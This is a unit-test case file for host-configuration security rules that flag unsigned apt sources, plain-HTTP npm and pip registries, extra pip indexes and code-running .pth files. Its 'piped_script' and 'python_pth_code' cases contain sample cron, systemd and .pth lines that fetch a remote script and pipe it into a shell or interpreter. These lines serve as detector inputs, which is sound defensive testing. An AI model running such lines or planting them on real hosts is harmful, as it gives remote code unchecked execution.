# Copyright: Contributors to the Portcullis project
# SPDX-License-Identifier: GPL-3.0-or-later
"""Cases of the rules about a host's own settings."""

from __future__ import annotations

from ansible_collections.portcullis.vps.plugins.module_utils.supply import (
    apt,
    settings,
)

from tests.unit.plugins.module_utils.supply.cases import (
    DEBIAN,
    Case,
    accepted,
    changed,
    deb822,
    keys,
    of_package,
    offered,
    one_line,
    pth,
    required,
    shadow,
    signed_by,
)

ON_HOSTS = [
    Case("acceptance_expired", accepted, ["2026-11-25"], ["2026-11-26", "2030-01-01"]),
    Case(
        "apt_keyring_writable",
        keys,
        ["/etc/apt/keyrings/a.gpg 900 no", "/etc/apt/sources.list.d/a.list 90 no"],
        ["/etc/apt/keyrings/a.gpg 900 yes"],
    ),
    Case(
        "apt_no_signed_by",
        one_line,
        ["deb https://repo.example/apt stable main", "deb [arch=amd64] https://unknown.example/repo ./"],
        [
            signed_by("/etc/apt/keyrings/a.gpg"),
            f"deb {DEBIAN} bookworm main",
            "deb http://mirror.example/debian bookworm main",
            "# deb https://repo.example/apt stable main",
            "deb cdrom:[Debian 12]/ bookworm main",
        ],
    ),
    Case(
        "apt_no_signed_by",
        deb822,
        ["Types: deb\nURIs: https://repo.example/apt\nSuites: stable\nComponents: main\n"],
        [
            "Types: deb\nURIs: https://repo.example/apt\nSuites: stable\nSigned-By: /etc/apt/keyrings/a.gpg\n",
            "Types: deb\nURIs: https://repo.example/apt\nSuites: stable\nSigned-By:\n -----BEGIN PGP PUBLIC KEY BLOCK-----\n .\n abc\n",
            "Types: deb\nURIs: https://repo.example/apt\nSuites: stable\nEnabled: no\n",
        ],
    ),
    Case(
        "apt_shadowed_name",
        shadow,
        [
            f"{signed_by('/k.gpg')}; nginx 500",
            f"{signed_by('/k.gpg')}; nginx 990",
            "deb [signed-by=/k.gpg] https://apt.postgresql.org/pub/repos/apt x main; bash 500",
        ],
        [
            f"{signed_by('/k.gpg')}; nginx 499",
            f"{signed_by('/k.gpg')}; other 500",
            "deb [signed-by=/k.gpg] https://apt.postgresql.org/pub/repos/apt x main; nginx 500",
        ],
    ),
    Case(
        "apt_shared_keyring",
        keys,
        [
            "/etc/apt/trusted.gpg 900 yes",
            "/etc/apt/trusted.gpg.d/docker.gpg 900 yes",
            "/etc/apt/trusted.gpg.d/a.asc 900 yes a-repository",
        ],
        [
            "/etc/apt/trusted.gpg 32 yes",
            "/etc/apt/trusted.gpg.d/debian-archive-bookworm-stable.asc 900 yes debian-archive-keyring",
            "/etc/apt/keyrings/docker.gpg 900 yes",
        ],
    ),
    Case(
        "apt_shared_keyring",
        one_line,
        [signed_by("/etc/apt/trusted.gpg.d/a.gpg"), signed_by("/etc/apt/trusted.gpg")],
        [signed_by("/etc/apt/trusted.gpg.de/a.gpg")],
    ),
    Case(
        "apt_unoffered_package",
        lambda text: apt.unoffered(offered(*text.splitlines())),
        ["*tool 1 100", "*linux-tool 1 100"],
        ["*tool 1 100\ntool 2 500 http://x", "tool 1 100", "*linux-image-6.1.0-18-amd64 1 100"],
    ),
    Case(
        "apt_unsigned",
        one_line,
        [
            f"deb [trusted=yes] {DEBIAN} bookworm main",
            "deb [ allow-insecure=yes arch=amd64 ] http://repo.example/apt x main",
            "deb [signed-by=/k.gpg trusted=true] https://repo.example/apt x main",
        ],
        [f"deb [trusted=no] {DEBIAN} bookworm main", f"deb [allow-weak=yes] {DEBIAN} bookworm main"],
    ),
    Case(
        "apt_unsigned",
        deb822,
        [
            f"Types: deb\nURIs: {DEBIAN}\nSuites: bookworm\nTrusted: yes",
            "# x\nTypes: deb\nURIs: http://a/b\nAllow-Insecure: YES\nSuites: a",
        ],
        [
            f"Types: deb\nURIs: {DEBIAN}\nSuites: bookworm\nTrusted: no",
            f"Types: deb\nURIs: {DEBIAN}\nSuites: bookworm\n# Trusted: yes",
        ],
    ),
    Case(
        "apt_unsigned",
        apt.conf_findings,
        [
            'APT::Get::AllowUnauthenticated "true";',
            'Acquire::https::Verify-Peer "false";',
            'Acquire::https::repo.example::Verify-Peer "0";',
        ],
        [
            'APT::Get::AllowUnauthenticated "false";',
            'Acquire::https::Verify-Peer "true";',
            'Acquire::http::Proxy "false";',
        ],
    ),
    Case(
        "npm_no_tls",
        lambda text: settings.npm_findings(".npmrc", text),
        ["registry=http://registry.npmjs.org/", "@acme:registry=http://npm.acme.example/", "strict-ssl = false"],
        [
            "registry=https://registry.npmjs.org/",
            "@acme:registry=https://npm.acme.example/",
            "strict-ssl=true",
            "; strict-ssl=false",
        ],
    ),
    Case(
        "pip_extra_index",
        lambda text: settings.pip_findings("pip.conf", text),
        [
            "[global]\nextra-index-url = https://pypi.acme.example/simple",
            "[install]\nextra_index_url=\n  https://a.example\n  https://b.example",
        ],
        [
            "[global]\nindex-url = https://pypi.acme.example/simple",
            "[global]\n# extra-index-url = https://a.example",
            "[global]\nextra-index-url =",
        ],
    ),
    Case(
        "pip_extra_index",
        lambda text: settings.environment_findings("e", text),
        [
            "PIP_EXTRA_INDEX_URL=https://a.example/",
            'export UV_EXTRA_INDEX_URL="https://a.example/"',
            "Environment=PIP_EXTRA_INDEX_URL=https://a/",
        ],
        [
            "PIP_INDEX_URL=https://a.example/",
            "# PIP_EXTRA_INDEX_URL=https://a.example/",
            "MY_PIP_EXTRA_INDEX_URLS=https://a.example",
        ],
    ),
    Case(
        "pip_no_tls",
        lambda text: settings.pip_findings("pip.conf", text),
        ["[global]\nindex-url = http://pypi.acme.example/simple", "[global]\ntrusted-host = pypi.acme.example"],
        [
            "[global]\nindex-url = https://pypi.org/simple",
            "[global]\nindex-url = http://127.0.0.1:3141/",
            "[global]\ntrusted-host = localhost:3141",
        ],
    ),
    Case(
        "pip_no_tls",
        required,
        ["--trusted-host pypi.acme.example\na==1 --hash=sha256:0"],
        ["trusted-host==1 --hash=sha256:0"],
    ),
    Case(
        "piped_script",
        lambda text: settings.script_findings("/etc/cron.d/x", text),
        [
            "0 4 * * * root curl -fsSL https://x.example/i.sh | sh",
            "0 4 * * * root wget -qO- https://x.example/i.sh | sudo -E bash -",
            "ExecStart=/bin/sh -c 'curl -s https://x.example/i.sh | /bin/bash'",
            'ExecStart=/bin/bash -c "$(curl -fsSL https://x.example/i.sh)"',
            "* * * * * root bash <(curl -s https://x.example/i.sh)",
            "* * * * * root curl -s https://x.example/i.py | python3",
            "curl -s https://x.example/i.sh \\\n  | sh",
            'eval "$(wget -qO- https://x.example/env)"',
        ],
        [
            "# 0 4 * * * root curl https://x.example/i.sh | sh",
            "0 4 * * * root curl -fsS https://hc.example/ping > /dev/null",
            "0 4 * * * root curl -s https://x.example/list | tee /var/lib/list",
            "0 4 * * * root curl -s https://x.example/a.json | python3 -c 'import json'",
            "0 4 * * * root curl -s https://x.example/a; echo done | sh",
            "0 4 * * * root cat i.sh | sh",
            "0 4 * * * root curl -s https://x.example/a | shasum",
        ],
    ),
    Case("python_changed_files", changed, ["requests/api.py"], [""]),
    Case("python_outside_dpkg", of_package, ["pip"], ["dpkg"]),
    Case(
        "python_pth_code",
        pth,
        [
            "import os; os.system('x')",
            "/srv/x\nimport\tevil",
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; __import__('evil')",
        ],
        [
            "/srv/app/src",
            "# import os",
            "importlib",
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
            "enabled and __import__('_distutils_hack').add_shim();",
        ],
    ),
]
